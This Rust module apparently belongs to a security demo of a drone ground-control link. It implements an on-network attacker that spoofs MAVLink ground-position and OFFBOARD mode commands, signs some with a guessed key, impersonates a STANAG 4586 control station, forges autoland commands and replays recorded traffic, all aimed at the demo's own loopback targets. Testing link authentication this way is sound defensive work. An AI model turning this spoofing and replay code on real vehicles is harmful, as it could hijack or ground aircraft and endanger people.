//! An attacker on the network: position commands to the vehicle in the VSM's name, landings to the VSM in the CUCS's name.
//!
//! It knows all traffic, but no key. The demo passes it its targets, which are the demo's own, on loopback.

use std::cell::Cell;
use std::net::SocketAddr;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::Context as _;
use cucs::Station;
use mavlink_link::dialect::{
    MavCmd, MavFrame, MavMessage, PositionTargetTypemask, SET_POSITION_TARGET_LOCAL_NED_DATA,
};
use mavlink_link::frame::{Header, INCOMPAT_SIGNED, MAX_FRAME, encode};
use mavlink_link::service::{Node, command};
use mavlink_link::signing::{SigningKey, Stamp, sign};
use stanag_msgs::enums::FlightPathControlMode;
use stanag_msgs::messages::VehicleOperatingModeCommand;
use stanag_msgs::{Envelope, Id, MAX_DATAGRAM, Message, TimeStamp};
use tokio::net::UdpSocket;

use super::super::wire::Wire;

/// On the vehicle's link: "go to the ground", and now and then "take commands from outside", once as they are and once
/// signed with a key that is a guess.
pub(super) async fn strike(vehicle: SocketAddr, sent: &Cell<u64>) -> anyhow::Result<()> {
    let socket = UdpSocket::bind("127.0.0.1:0").await?;
    let guess = SigningKey::new([0x5a; 32]).context("a key")?;
    let mut seq = 0_u8;
    for round in 0_u64.. {
        let mut messages = vec![down()];
        // After a set point: in flight PX4 refuses OFFBOARD without set points.
        if round.is_multiple_of(20) {
            messages.push(offboard());
        }
        for message in messages {
            for signed in [false, true] {
                let header = Header {
                    seq,
                    system_id: 245,
                    component_id: 190,
                    incompat: if signed { INCOMPAT_SIGNED } else { 0 },
                    ..Header::default()
                };
                seq = seq.wrapping_add(1);
                let mut out = [0; MAX_FRAME];
                let mut len = encode(&message, header, &mut out);
                if signed {
                    len = sign(&guess, 0, Stamp::from_unix(wall()?), &mut out, len)?;
                }
                // A full buffer is a lost datagram, as on any link.
                let _ = socket
                    .send_to(out.get(..len).unwrap_or_default(), vehicle)
                    .await;
                sent.set(sent.get() + 1);
            }
        }
        tokio::time::sleep(LINK_EVERY).await;
    }
    Ok(())
}

/// A CUCS that says it is another one, from another computer, and answers what it is asked there: mode 19, land.
pub(super) async fn impersonate(
    vsm: SocketAddr,
    claimed: Id,
    vehicle: Id,
    sent: &Cell<u64>,
) -> anyhow::Result<()> {
    // A different address than the CUCS's.
    let elsewhere = "127.0.0.2:0".parse()?;
    let mut station = Station::bind(claimed, elsewhere, vsm).await?;
    station.set_heartbeats(true);
    loop {
        sent.set(sent.get() + 1);
        // The attacker ignores the answers.
        let _ = tokio::time::timeout(EVERY, station.land(vehicle)).await;
        tokio::time::sleep(EVERY).await;
    }
}

/// Landings that somebody on the way writes as the CUCS would, from where the CUCS's own datagrams come from.
pub(super) async fn forge(
    wire: &Wire,
    claimed: Id,
    vehicle: Id,
    sent: &Cell<u64>,
) -> anyhow::Result<()> {
    loop {
        let landing = Message::from(VehicleOperatingModeCommand {
            time_stamp: Some(TimeStamp::from_unix_ms(wall()?.as_millis() as u64)),
            select_flight_path_control_mode: Some(FlightPathControlMode::AutolandEngage),
            ..VehicleOperatingModeCommand::default()
        });
        let mut out = [0; MAX_DATAGRAM];
        let length = landing.encode(&Envelope::new(claimed, vehicle), &mut out)?;
        wire.inject(out.get(..length).unwrap_or_default()).await?;
        sent.set(sent.get() + 1);
        tokio::time::sleep(EVERY).await;
    }
}

/// What the CUCS has sent on the way to an earlier landing, again and again: from where it came from, and from elsewhere.
pub(super) async fn replay(
    wire: &Wire,
    vsm: SocketAddr,
    recording: &[Vec<u8>],
    sent: &Cell<u64>,
) -> anyhow::Result<()> {
    let elsewhere = UdpSocket::bind("127.0.0.2:0").await?;
    loop {
        for bytes in recording {
            wire.inject(bytes).await?;
            elsewhere.send_to(bytes, vsm).await?;
            sent.set(sent.get() + 2);
        }
        tokio::time::sleep(EVERY).await;
    }
}

/// Since 1970.
fn wall() -> anyhow::Result<Duration> {
    Ok(SystemTime::now().duration_since(UNIX_EPOCH)?)
}

/// The ground right below home.
fn down() -> MavMessage {
    use PositionTargetTypemask as Ignore;
    MavMessage::SET_POSITION_TARGET_LOCAL_NED(SET_POSITION_TARGET_LOCAL_NED_DATA {
        target_system: 1,
        target_component: 1,
        coordinate_frame: MavFrame::MAV_FRAME_LOCAL_NED,
        type_mask: Ignore::POSITION_TARGET_TYPEMASK_VX_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_VY_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_VZ_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_AX_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_AY_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_AZ_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_YAW_IGNORE
            | Ignore::POSITION_TARGET_TYPEMASK_YAW_RATE_IGNORE,
        // x, y and z stay 0: the vehicle is sent to its origin, on the ground.
        ..SET_POSITION_TARGET_LOCAL_NED_DATA::default()
    })
}

/// DO_SET_MODE, OFFBOARD.
fn offboard() -> MavMessage {
    // PX4's custom modes: param1 1 enables them, main mode 6 is OFFBOARD.
    command::long(Node::new(1, 1), MavCmd::MAV_CMD_DO_SET_MODE, [1.0, 6.0])
}

const EVERY: Duration = Duration::from_millis(100);
const LINK_EVERY: Duration = Duration::from_millis(5);
